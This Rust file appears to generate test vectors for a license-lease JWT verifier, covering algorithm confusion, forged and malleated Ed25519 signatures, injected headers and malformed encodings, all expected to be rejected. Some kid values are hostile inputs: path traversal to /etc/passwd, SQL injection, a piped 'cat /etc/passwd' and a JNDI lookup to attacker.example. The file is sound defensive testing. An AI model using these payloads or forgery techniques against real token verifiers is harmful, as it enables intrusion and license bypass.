//! Leases that the vendor signed, and every way that we know to forge, twist or reuse one.

use sdk::{jwk::PublicJwk, wire::Identity};

use super::{
    forge::{
        NOW, Object, b64, header, hmac_sha256, hmac_sha512, jwk, kid, malleated, quoted, sign, sign_parts,
        signature_of, small_order_points, stranger, trust, vendor, with_signature,
    },
    format::{Expectation, File, Vectors},
};

const TYP: &str = "lease+jwt";
const NONCE: &str = "nonce-nonce-nonce-1";

fn expectation() -> Expectation {
    Expectation { aud: "iot-platform".into(), now: NOW, ..Expectation::default() }
}

/// The claims of a good lease.
pub(crate) fn claims() -> Object {
    Object::new([
        ("ver", "1"),
        ("iss", "\"https://vendor.example\""),
        ("aud", "\"iot-platform\""),
        ("sub", "\"ins_1\""),
        ("jti", "\"lse_1\""),
        ("iat", "1800000000"),
        ("nbf", "1800000000"),
        ("exp", "1800000600"),
        ("nonce", "\"nonce-nonce-nonce-1\""),
        ("lic", "\"lic_1\""),
        ("lty", "\"floating\""),
        ("pln", "\"pilot\""),
        ("idn", r#"{"kind":"instance","id":"node-a"}"#),
        ("lim", r#"{"devices":100,"assets":-1}"#),
        ("fea", r#"{"sso":null,"beta":1800000060}"#),
        ("seats", "2"),
        ("enf", r#"[{"stage":"warn","after_s":0},{"stage":"stop","after_s":86400}]"#),
        ("chk", "180"),
    ])
}

fn head() -> Object {
    header(TYP, &vendor())
}

fn good() -> String {
    sign(head().text(), claims().text(), &vendor())
}

fn with_header(name: &str, value: &str) -> String {
    sign(head().with(name, value).text(), claims().text(), &vendor())
}

fn with_claim(name: &str, value: &str) -> String {
    sign(head().text(), claims().with(name, value).text(), &vendor())
}

pub(crate) fn file() -> File {
    let mut all = Vectors::default();
    accepted(&mut all);
    algorithms(&mut all);
    types_and_keys(&mut all);
    forbidden_headers(&mut all);
    duplicates(&mut all);
    not_json(&mut all);
    encodings(&mut all);
    signatures(&mut all);
    weak_keys(&mut all);
    ill_typed(&mut all);
    for_somebody_else(&mut all);
    times(&mut all);
    File { kind: "lease".into(), trust: trust(0), expect: expectation(), vectors: all.0 }
}

fn accepted(all: &mut Vectors) {
    all.add("good", "accepted", good());
    all.add("good-alg-by-its-new-name", "accepted", with_header("alg", "\"Ed25519\""));
    all.add("good-unknown-header", "accepted", with_header("zzz", "{\"a\":[1]}"));
    all.add("good-unknown-claim", "accepted", with_claim("zzz", "{\"a\":1.5}"));
    all.add("good-without-nonce", "accepted", sign(head().text(), claims().without("nonce").text(), &vendor()));
    all.add("good-perpetual", "accepted", with_claim("upd", "1826755200"));
    all.add("good-borrowed", "accepted", with_claim("brw", "true"));
    all.add("good-nothing-limited", "accepted", with_claim("lim", "{}"));
    all.add("good-unlimited-seats", "accepted", with_claim("seats", "-1"));
    all.add("good-user", "accepted", with_claim("idn", r#"{"kind":"user","id":"ada","device":"laptop"}"#));
    all.add("good-unicode", "accepted", with_claim("idn", r#"{"kind":"instance","id":"k\u00fcche-\ud83d\ude00"}"#));
    all.add("good-white-space", "accepted", sign(head().text(), format!(" \n{}\t", claims().text()), &vendor()));
    all.add("good-ends-never", "accepted", with_claim("exp", "9223372036854775807"));
    let at = |now| Some(Expectation { now, ..expectation() });
    all.add("good-in-the-last-second-of-leeway", "accepted", good()).expect = at(NOW + 659);
    all.add("good-in-the-first-second-of-leeway", "accepted", good()).expect = at(NOW - 60);
    let fresh = Expectation { now: 0, nonce: Some(NONCE.into()), ..expectation() };
    all.add("good-fresh-whatever-the-clock-says", "accepted", good()).expect = Some(fresh);
}

fn algorithms(all: &mut Vectors) {
    for alg in [
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "PS256",
        "ES256",
        "ES256K",
        "ES384",
        "Ed448",
        "eddsa",
        "EDDSA",
        "ed25519",
        "EdDSA ",
        " EdDSA",
        "EdDSA-none",
        "Ed25519ph",
        "Ed25519ctx",
    ] {
        all.add(format!("alg-{}", b64(alg)), "algorithm", with_header("alg", &quoted(alg)));
    }
    for (id, alg) in [("null", "null"), ("number", "1"), ("true", "true"), ("array", "[\"EdDSA\"]"), ("object", "{}")] {
        all.add(format!("alg-{id}"), "algorithm", with_header("alg", alg));
    }
    all.add("alg-missing", "algorithm", sign(head().without("alg").text(), claims().text(), &vendor()));
    for (id, alg) in [("none", "none"), ("eddsa", "EdDSA")] {
        let unsigned = format!("{}.{}.", b64(head().with("alg", &quoted(alg)).text()), b64(claims().text()));
        all.add(format!("alg-{id}-without-signature"), "not_compact", unsigned);
    }
    // The classic confusion: HMAC keyed with what everybody knows.
    let public = vendor().verifying_key().to_bytes();
    let key_texts = [
        ("bytes", public.to_vec()),
        ("x", b64(public).into_bytes()),
        ("hex", data_encoding::HEXLOWER.encode(&public).into_bytes()),
    ];
    for (name, secret) in key_texts {
        let token = with_header("alg", "\"HS256\"");
        let input = token.rsplit_once('.').unwrap().0;
        let mac = hmac_sha256(&secret, input.as_bytes());
        all.add(format!("hs256-keyed-with-public-{name}"), "not_compact", with_signature(&token, mac));
        for alg in ["HS512", "EdDSA"] {
            let token = with_header("alg", &quoted(alg));
            let input = token.rsplit_once('.').unwrap().0;
            let mac = hmac_sha512(&secret, input.as_bytes());
            let expected = if alg == "EdDSA" { "signature" } else { "algorithm" };
            let id = format!("{}-with-an-hmac-keyed-with-public-{name}", alg.to_lowercase());
            all.add(id, expected, with_signature(&token, mac));
        }
    }
}

fn types_and_keys(all: &mut Vectors) {
    for typ in [
        "JWT",
        "jwt",
        "lease",
        "LEASE+JWT",
        "Lease+JWT",
        "application/lease+jwt",
        "lease+jwt ",
        "keys+jwt",
        "delegation+jwt",
        "revocations+jwt",
        "",
    ] {
        all.add(format!("typ-{}", b64(typ)), "type", with_header("typ", &quoted(typ)));
    }
    for (id, typ) in [("null", "null"), ("number", "1"), ("array", "[\"lease+jwt\"]")] {
        all.add(format!("typ-{id}"), "type", with_header("typ", typ));
    }
    all.add("typ-missing", "type", sign(head().without("typ").text(), claims().text(), &vendor()));
    for (id, kid) in [("null", "null"), ("number", "7"), ("array", "[]"), ("object", "{}"), ("true", "true")] {
        all.add(format!("kid-{id}"), "no_key_id", with_header("kid", kid));
    }
    all.add("kid-missing", "no_key_id", sign(head().without("kid").text(), claims().text(), &vendor()));
    let name = kid(&vendor());
    let twisted = [
        ("empty", String::new()),
        ("other", "other".into()),
        ("path", "../../../../etc/passwd".into()),
        ("absolute-path", "/dev/null".into()),
        ("encoded-path", "%2e%2e%2f%2e%2e%2fdev%2fnull".into()),
        ("file-url", "file:///dev/null".into()),
        ("url", "https://attacker.example/key.json".into()),
        ("sql", "x' UNION SELECT 'AAAA' --".into()),
        ("command", "| cat /etc/passwd".into()),
        ("template", "${jndi:ldap://attacker.example/a}".into()),
        ("nul", format!("{name}\\u0000")),
        ("nul-before-path", "key\\u0000../../dev/null".into()),
        ("trailing-space", format!("{name} ")),
        ("line-break", format!("{name}\\n")),
        ("padded", format!("{name}=")),
        ("upper-case", name.to_uppercase()),
        ("prefix", name[..42].into()),
        ("suffixed", format!("{name}A")),
        ("the-key-itself", jwk(&vendor()).x),
        ("number-of-the-key", "0".into()),
        ("long", "A".repeat(4000)),
        ("of-a-stranger", kid(&stranger())),
    ];
    for (id, kid) in twisted {
        all.add(format!("kid-{id}"), "unknown_key", with_header("kid", &quoted(&kid)));
    }
    let theirs = header(TYP, &stranger());
    all.add("signed-by-a-stranger", "unknown_key", sign(theirs.text(), claims().text(), &stranger()));
    all.add("signed-by-a-stranger-in-our-name", "signature", sign(head().text(), claims().text(), &stranger()));
}

fn forbidden_headers(all: &mut Vectors) {
    let ours = serde_json::to_string(&jwk(&vendor())).unwrap();
    let theirs = serde_json::to_string(&jwk(&stranger())).unwrap();
    for (id, name, value) in [
        ("crit-exp", "crit", "[\"exp\"]"),
        ("crit-empty", "crit", "[]"),
        ("crit-null", "crit", "null"),
        ("crit-b64", "crit", "[\"b64\"]"),
        ("jwk-ours", "jwk", ours.as_str()),
        ("jwk-null", "jwk", "null"),
        ("jku", "jku", "\"https://vendor.example/.well-known/jwks.json\""),
        ("jku-elsewhere", "jku", "\"https://attacker.example/jwks.json\""),
        ("x5u", "x5u", "\"https://attacker.example/cert.pem\""),
        ("x5c", "x5c", "[\"MIIB\"]"),
        ("x5t", "x5t", "\"AAAA\""),
        ("x5t-s256", "x5t#S256", "\"AAAA\""),
        ("b64-false", "b64", "false"),
        ("zip", "zip", "\"DEF\""),
    ] {
        all.add(format!("header-{id}"), "forbidden_header", with_header(name, value));
    }
    let own = header(TYP, &stranger()).with("jwk", &theirs);
    all.add("header-jwk-theirs", "forbidden_header", sign(own.text(), claims().text(), &stranger()));
    let named = head().with("jwk", &theirs);
    all.add("header-jwk-theirs-in-our-name", "forbidden_header", sign(named.text(), claims().text(), &stranger()));
    let spelled = head().and("\"j\\u0077k\"", &theirs);
    all.add("header-jwk-in-escapes", "forbidden_header", sign(spelled.text(), claims().text(), &stranger()));
}

fn duplicates(all: &mut Vectors) {
    let header_twice = |name: &str, value: &str| sign(head().and(name, value).text(), claims().text(), &vendor());
    all.add("twice-alg", "not_json", header_twice("\"alg\"", "\"none\""));
    all.add("twice-alg-same", "not_json", header_twice("\"alg\"", "\"EdDSA\""));
    all.add("twice-typ", "not_json", header_twice("\"typ\"", "\"JWT\""));
    all.add("twice-kid", "not_json", header_twice("\"kid\"", "\"other\""));
    all.add("twice-kid-in-escapes", "not_json", header_twice("\"\\u006bid\"", "\"other\""));
    all.add("twice-kid-in-other-escapes", "not_json", header_twice("\"\\u006Bid\"", "\"other\""));
    all.add(
        "twice-unknown-header",
        "not_json",
        sign(head().and("\"z\"", "1").and("\"z\"", "1").text(), claims().text(), &vendor()),
    );
    let twice = |name: &str, value: &str| sign(head().text(), claims().and(name, value).text(), &vendor());
    for (name, value) in [
        ("exp", "9000000000"),
        ("seats", "99"),
        ("iss", "\"https://vendor.example\""),
        ("aud", "\"other\""),
        ("enf", "[]"),
        ("nonce", "\"nonce-nonce-nonce-2\""),
    ] {
        all.add(format!("twice-{name}"), "not_json", twice(&quoted(name), value));
    }
    all.add("twice-seats-in-escapes", "not_json", twice("\"s\\u0065ats\"", "99"));
    all.add("twice-exp-all-in-escapes", "not_json", twice("\"\\u0065\\u0078\\u0070\"", "9000000000"));
    for (id, name, value) in [
        ("limit", "lim", r#"{"devices":1,"devices":100}"#),
        ("limit-in-escapes", "lim", r#"{"devices":1,"d\u0065vices":100}"#),
        ("feature", "fea", r#"{"sso":1800000060,"sso":null}"#),
        ("identity", "idn", r#"{"kind":"instance","id":"node-b","id":"node-a"}"#),
        ("stage", "enf", r#"[{"stage":"stop","stage":"warn","after_s":0}]"#),
        ("deep", "zzz", r#"[[[{"a":{"b":1,"b":2}}]]]"#),
        ("empty-name", "zzz", r#"{"":1,"":2}"#),
        ("surrogates", "zzz", r#"{"😀":1,"\ud83d\ude00":2}"#),
    ] {
        all.add(format!("twice-{id}"), "not_json", with_claim(name, value));
    }
}

fn not_json(all: &mut Vectors) {
    let text = claims().text();
    let signed = |payload: &[u8]| sign(head().text(), payload, &vendor());
    for (id, payload) in [
        ("array", "[]".to_owned()),
        ("array-of-claims", format!("[{text}]")),
        ("null", "null".into()),
        ("string", "\"x\"".into()),
        ("number", "1".into()),
        ("true", "true".into()),
        ("empty", String::new()),
        ("space", " ".into()),
        ("half", text[..text.len() - 1].into()),
        ("two-objects", format!("{text}{text}")),
        ("trailing-garbage", format!("{text}x")),
        ("trailing-nul", format!("{text}\0")),
        ("trailing-comma", text.replace("\"chk\":180}", "\"chk\":180,}")),
        ("single-quotes", text.replace('"', "'")),
        ("comment", format!("/* */{text}")),
        ("no-quotes", text.replace("\"ver\"", "ver")),
        ("nan", text.replace("\"seats\":2", "\"seats\":NaN")),
        ("infinity", text.replace("\"exp\":1800000600", "\"exp\":Infinity")),
        ("leading-zero", text.replace("\"exp\":1800000600", "\"exp\":01800000600")),
        ("plus", text.replace("\"exp\":1800000600", "\"exp\":+1800000600")),
        ("hex", text.replace("\"exp\":1800000600", "\"exp\":0x7FFFFFFF")),
        ("beyond-any-number", text.replace("\"exp\":1800000600", "\"exp\":1e400")),
        ("byte-order-mark", format!("\u{feff}{text}")),
        ("control-character", text.replace("ins_1", "ins\n1")),
        ("lone-surrogate", text.replace("ins_1", "\\ud800")),
        ("deep", "[".repeat(3000)),
        ("deep-and-closed", format!("{{\"a\":{}{}}}", "[".repeat(500), "]".repeat(500))),
    ] {
        all.add(format!("payload-{id}"), "not_json", signed(payload.as_bytes()));
    }
    let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    all.add("payload-utf-16", "not_json", signed(&utf16));
    let latin1 = text.replace("ins_1", "ins_\u{1}").replace('\u{1}', "@").into_bytes();
    let latin1: Vec<u8> = latin1.into_iter().map(|byte| if byte == b'@' { 0xfc } else { byte }).collect();
    all.add("payload-not-utf-8", "not_json", signed(&latin1));
    for (id, header) in [("array", "[]"), ("string", "\"EdDSA\""), ("empty", ""), ("half", "{"), ("null", "null")] {
        all.add(format!("header-{id}"), "not_json", sign(header, &text, &vendor()));
    }
    all.add("header-empty-object", "algorithm", sign("{}", &text, &vendor()));
}

fn encodings(all: &mut Vectors) {
    let token = good();
    let [head64, text64, signature64]: [&str; 3] = token.split('.').collect::<Vec<_>>().try_into().unwrap();
    let next = |text: &str| {
        // The last character has unused bits: the next one in the alphabet spells the same bytes.
        let last = text.chars().last().unwrap();
        format!("{}{}", &text[..text.len() - 1], char::from(u8::try_from(last).unwrap() + 1))
    };
    // Padded with a space until their last characters have unused bits, and signed as they stand.
    let loose = |text: String| (0..3).map(|n| text.clone() + &" ".repeat(n)).find(|text| text.len() % 3 != 0).unwrap();
    let head_loose = next(&b64(loose(head().text())));
    let text_loose = next(&b64(loose(claims().text())));
    for (id, bad) in [
        ("trailing-bits-in-signature", format!("{head64}.{text64}.{}", next(signature64))),
        ("trailing-bits-in-header", sign_parts(&head_loose, text64, &vendor())),
        ("trailing-bits-in-payload", sign_parts(head64, &text_loose, &vendor())),
        ("padding-in-signature", format!("{token}==")),
        ("one-pad-in-signature", format!("{token}=")),
        ("padding-in-header", sign_parts(&format!("{head64}="), text64, &vendor())),
        ("padding-in-payload", sign_parts(head64, &format!("{text64}=="), &vendor())),
        ("space-before", format!(" {token}")),
        ("space-after", format!("{token} ")),
        ("line-break-after", format!("{token}\n")),
        ("carriage-return-after", format!("{token}\r\n")),
        ("line-break-inside-signature", format!("{head64}.{text64}.{}\n{}", &signature64[..40], &signature64[40..])),
        ("tab-inside-payload", sign_parts(head64, &format!("{}\t{}", &text64[..40], &text64[40..]), &vendor())),
        ("space-around-dot", format!("{head64} . {text64}.{signature64}")),
        ("four-parts", format!("{token}.{signature64}")),
        ("five-parts-like-jwe", format!("{head64}..{text64}.{signature64}.{signature64}")),
        ("dot-after", format!("{token}.")),
        ("dot-before", format!(".{token}")),
        ("two-parts", format!("{head64}.{text64}")),
        ("one-part", head64.to_owned()),
        ("empty", String::new()),
        ("only-dots", "..".into()),
        ("three-dots", "...".into()),
        ("no-payload", format!("{head64}..{signature64}")),
        ("no-header", format!(".{text64}.{signature64}")),
        ("impossible-length", format!("{head64}.{text64}.{}", &signature64[..85])),
        ("short-signature", format!("{head64}.{text64}.{}", &signature64[..84])),
        ("long-signature", format!("{head64}.{text64}.{signature64}AAAA")),
        ("percent-encoded", token.replace('.', "%2E")),
        ("quoted", format!("\"{token}\"")),
        ("bearer", format!("Bearer {token}")),
        ("non-ascii", format!("{head64}.{text64}é.{signature64}")),
        ("nul-after", format!("{token}\0")),
        ("plus-for-minus", sign_parts(head64, &format!("{}+", &text64[..text64.len() - 1]), &vendor())),
        ("slash-for-underscore", sign_parts(head64, &format!("{}/", &text64[..text64.len() - 1]), &vendor())),
    ] {
        // Empty parts are well-formed base64url of nothing.
        let expected = match id {
            "no-payload" => "signature",
            "no-header" => "not_json",
            _ => "not_compact",
        };
        all.add(format!("encoding-{id}"), expected, bad);
    }
    let json = format!(r#"{{"protected":"{head64}","payload":"{text64}","signature":"{signature64}"}}"#);
    all.add("encoding-json-serialization", "not_compact", json);
    all.add("oversized", "too_large", with_claim("pad", &quoted(&"x".repeat(30_000))));
    all.add("oversized-garbage", "too_large", "a".repeat(32 * 1024 + 1));
}

fn signatures(all: &mut Vectors) {
    let token = good();
    let signature = signature_of(&token);
    for times in [1, 2, 7] {
        let id = format!("signature-s-plus-{times}-l");
        all.add(id, "signature", with_signature(&token, malleated(signature, times)));
    }
    for (i, point) in small_order_points().into_iter().enumerate() {
        let forged = [point, [0; 32]].concat();
        all.add(format!("signature-small-order-r-{i}"), "signature", with_signature(&token, forged));
    }
    all.add("signature-zero", "signature", with_signature(&token, [0; 64]));
    all.add("signature-ones", "signature", with_signature(&token, [0xff; 64]));
    let (r, s) = signature.split_at(32);
    all.add("signature-halves-swapped", "signature", with_signature(&token, [s, r].concat()));
    for byte in [0, 1, 15, 31, 32, 33, 47, 62] {
        let mut flipped = signature;
        flipped[byte] ^= 1;
        all.add(format!("signature-bit-flipped-in-byte-{byte}"), "signature", with_signature(&token, flipped));
    }
    let of_other = signature_of(&with_claim("seats", "99"));
    all.add("signature-of-another-lease", "signature", with_signature(&token, of_other));
    use ed25519_dalek::Signer as _;
    all.add(
        "signature-over-the-claims-alone",
        "signature",
        with_signature(&token, vendor().sign(claims().text().as_bytes()).to_bytes()),
    );
    let input = token.rsplit_once('.').unwrap().0;
    let digest = <sha2::Sha512 as sha2::Digest>::digest(input);
    all.add("signature-over-a-digest", "signature", with_signature(&token, vendor().sign(&digest).to_bytes()));
    for (id, name, value) in
        [("seats", "seats", "99"), ("exp", "exp", "9000000000"), ("limit", "lim", r#"{"devices":-1}"#)]
    {
        let changed = with_signature(&with_claim(name, value), signature);
        all.add(format!("changed-{id}-under-the-old-signature"), "signature", changed);
    }
    all.add("changed-header-under-the-old-signature", "signature", with_signature(&with_header("zzz", "1"), signature));
}

/// Under a key of small order one signature fits every message, and two spellings of a key would be two names for it.
fn weak_keys(all: &mut Vectors) {
    for (i, point) in small_order_points().into_iter().enumerate() {
        let key = PublicJwk { x: b64(point), kid: None, ..jwk(&vendor()) };
        let header = head().with("kid", &quoted(&key.thumbprint()));
        let mut identity = [0; 64];
        identity[0] = 1;
        let token = with_signature(&sign(header.text(), claims().text(), &vendor()), identity);
        all.add(format!("key-small-order-{i}"), "unknown_key", token).trust_keys = Some(vec![key]);
    }
    let ours = jwk(&vendor());
    for (id, key) in [
        ("rsa", PublicJwk { kty: "RSA".into(), ..ours.clone() }),
        ("x25519", PublicJwk { crv: "X25519".into(), ..ours.clone() }),
        ("for-hs256", PublicJwk { alg: Some("HS256".into()), ..ours.clone() }),
        ("for-encryption", PublicJwk { key_use: Some("enc".into()), ..ours.clone() }),
        ("padded", PublicJwk { x: format!("{}=", ours.x), ..ours.clone() }),
        ("short", PublicJwk { x: ours.x[..42].into(), ..ours.clone() }),
        ("no-point", PublicJwk { x: b64([2; 32]), ..ours.clone() }),
    ] {
        let token = with_header("kid", &quoted(&key.thumbprint()));
        all.add(format!("key-{id}"), "unknown_key", token).trust_keys = Some(vec![key]);
    }
    let mut liar = jwk(&stranger());
    liar.kid = Some(kid(&vendor()));
    let token = sign(head().text(), claims().text(), &stranger());
    all.add("key-that-lies-about-its-name", "unknown_key", token).trust_keys = Some(vec![liar]);
}

fn ill_typed(all: &mut Vectors) {
    let times = [
        ("float", "1800000300.0"),
        ("fraction", "1800000300.5"),
        ("exponent", "1.8e9"),
        ("string", "\"1800000300\""),
        ("true", "true"),
        ("array", "[1800000300]"),
        ("object", "{}"),
        ("negative", "-1"),
        ("minus-zero-float", "-0.0"),
        ("beyond-63-bits", "9223372036854775808"),
        ("beyond-64-bits", "18446744073709551616"),
        ("huge", "1e300"),
        ("date", "\"2027-01-15T08:00:00Z\""),
    ];
    for (id, value) in times {
        for name in ["iat", "nbf", "exp", "upd"] {
            all.add(format!("{name}-{id}"), "claims", with_claim(name, value));
        }
        all.add(format!("feature-{id}"), "claims", with_claim("fea", &format!("{{\"sso\":{value}}}")));
    }
    for name in ["iat", "nbf", "exp"] {
        all.add(format!("{name}-null"), "claims", with_claim(name, "null"));
    }
    for name in [
        "ver", "iss", "aud", "sub", "jti", "iat", "nbf", "exp", "lic", "lty", "pln", "idn", "lim", "fea", "seats",
        "enf", "chk",
    ] {
        let token = sign(head().text(), claims().without(name).text(), &vendor());
        all.add(format!("without-{name}"), "claims", token);
    }
    for (id, name, value) in [
        ("ver-text", "ver", "\"1\""),
        ("ver-float", "ver", "1.0"),
        ("iss-array", "iss", "[\"https://vendor.example\"]"),
        ("aud-array", "aud", "[\"iot-platform\"]"),
        ("aud-null", "aud", "null"),
        ("sub-number", "sub", "1"),
        ("nonce-short", "nonce", "\"short\""),
        ("nonce-number", "nonce", "1234567890123456"),
        ("lty-unknown", "lty", "\"site\""),
        ("lty-upper-case", "lty", "\"Floating\""),
        ("idn-text", "idn", "\"node-a\""),
        ("idn-user-without-device", "idn", r#"{"kind":"user","id":"ada"}"#),
        ("idn-instance-with-device", "idn", r#"{"kind":"instance","id":"a","device":"d"}"#),
        ("idn-control-character", "idn", r#"{"kind":"instance","id":"a\u0000"}"#),
        ("idn-empty", "idn", r#"{"kind":"instance","id":""}"#),
        ("idn-unknown-kind", "idn", r#"{"kind":"robot","id":"a"}"#),
        ("lim-float", "lim", r#"{"devices":1.0}"#),
        ("lim-text", "lim", r#"{"devices":"unlimited"}"#),
        ("lim-null", "lim", r#"{"devices":null}"#),
        ("lim-less-than-unlimited", "lim", r#"{"devices":-2}"#),
        ("lim-array", "lim", "[]"),
        ("fea-array", "fea", "[\"sso\"]"),
        ("fea-true", "fea", r#"{"sso":true}"#),
        ("seats-text", "seats", "\"1\""),
        ("seats-less-than-unlimited", "seats", "-2"),
        ("enf-empty", "enf", "[]"),
        ("enf-object", "enf", "{}"),
        ("enf-falling-times", "enf", r#"[{"stage":"warn","after_s":9},{"stage":"stop","after_s":5}]"#),
        ("enf-falling-stages", "enf", r#"[{"stage":"stop","after_s":5},{"stage":"warn","after_s":9}]"#),
        ("enf-unknown-stage", "enf", r#"[{"stage":"pause","after_s":5}]"#),
        ("enf-negative", "enf", r#"[{"stage":"stop","after_s":-5}]"#),
        ("chk-zero", "chk", "0"),
        ("chk-float", "chk", "180.0"),
        ("brw-number", "brw", "1"),
    ] {
        all.add(format!("ill-typed-{id}"), "claims", with_claim(name, value));
    }
    for version in ["0", "2", "-1"] {
        all.add(format!("version-{version}"), "version", with_claim("ver", version));
    }
}

fn for_somebody_else(all: &mut Vectors) {
    for (i, iss) in [
        "https://other.example",
        "https://vendor.example/",
        "http://vendor.example",
        "https://VENDOR.example",
        "https://vendor.example:443",
        "https://vendor.example.attacker.example",
        "vendor.example",
        "",
        "https://vendor.example\\u0000",
    ]
    .into_iter()
    .enumerate()
    {
        all.add(format!("iss-{i}"), "issuer", with_claim("iss", &quoted(iss)));
    }
    for (i, aud) in ["other", "IOT-PLATFORM", "iot-platform ", "iot", "*", ""].into_iter().enumerate() {
        all.add(format!("aud-{i}"), "audience", with_claim("aud", &quoted(aud)));
    }
    let me = Some(Expectation {
        nonce: Some(NONCE.into()),
        identity: Some(Identity::instance("node-a")),
        instance_id: Some("ins_1".into()),
        ..expectation()
    });
    all.add("mine", "accepted", good()).expect.clone_from(&me);
    for (id, expected, name, value) in [
        ("nonce-of-another-request", "nonce", "nonce", "\"nonce-nonce-nonce-2\""),
        ("nonce-in-other-case", "nonce", "nonce", "\"NONCE-nonce-nonce-1\""),
        ("identity-of-another-kind", "identity", "idn", r#"{"kind":"machine","id":"node-a"}"#),
        ("identity-of-another", "identity", "idn", r#"{"kind":"instance","id":"node-b"}"#),
        ("identity-in-other-case", "identity", "idn", r#"{"kind":"instance","id":"Node-a"}"#),
        ("instance-of-another", "instance", "sub", "\"ins_2\""),
    ] {
        all.add(id, expected, with_claim(name, value)).expect.clone_from(&me);
    }
    let without = sign(head().text(), claims().without("nonce").text(), &vendor());
    all.add("nonce-missing", "nonce", without).expect = me;
    let accented = Some(Expectation { identity: Some(Identity::instance("k\u{fc}che")), ..expectation() });
    let decomposed = with_claim("idn", r#"{"kind":"instance","id":"ku\u0308che"}"#);
    all.add("identity-normalised-differently", "identity", decomposed).expect = accented;
}

fn times(all: &mut Vectors) {
    let at = |now| Some(Expectation { now, ..expectation() });
    all.add("expired", "expired", good()).expect = at(NOW + 660);
    all.add("expired-long-ago", "expired", good()).expect = at(i64::MAX);
    all.add("not-yet-valid", "not_yet_valid", good()).expect = at(NOW - 61);
    all.add("not-yet-valid-by-far", "not_yet_valid", good()).expect = at(0);
    all.add("ends-at-its-start", "times", with_claim("exp", "1800000000"));
    all.add("ends-before-its-start", "times", with_claim("exp", "1799999999"));
    all.add("ends-in-1970", "times", with_claim("exp", "0"));
    all.add("starts-after-its-end", "times", with_claim("nbf", "1800000600"));
    all.add("signed-after-its-end", "times", with_claim("iat", "1800000600"));
}
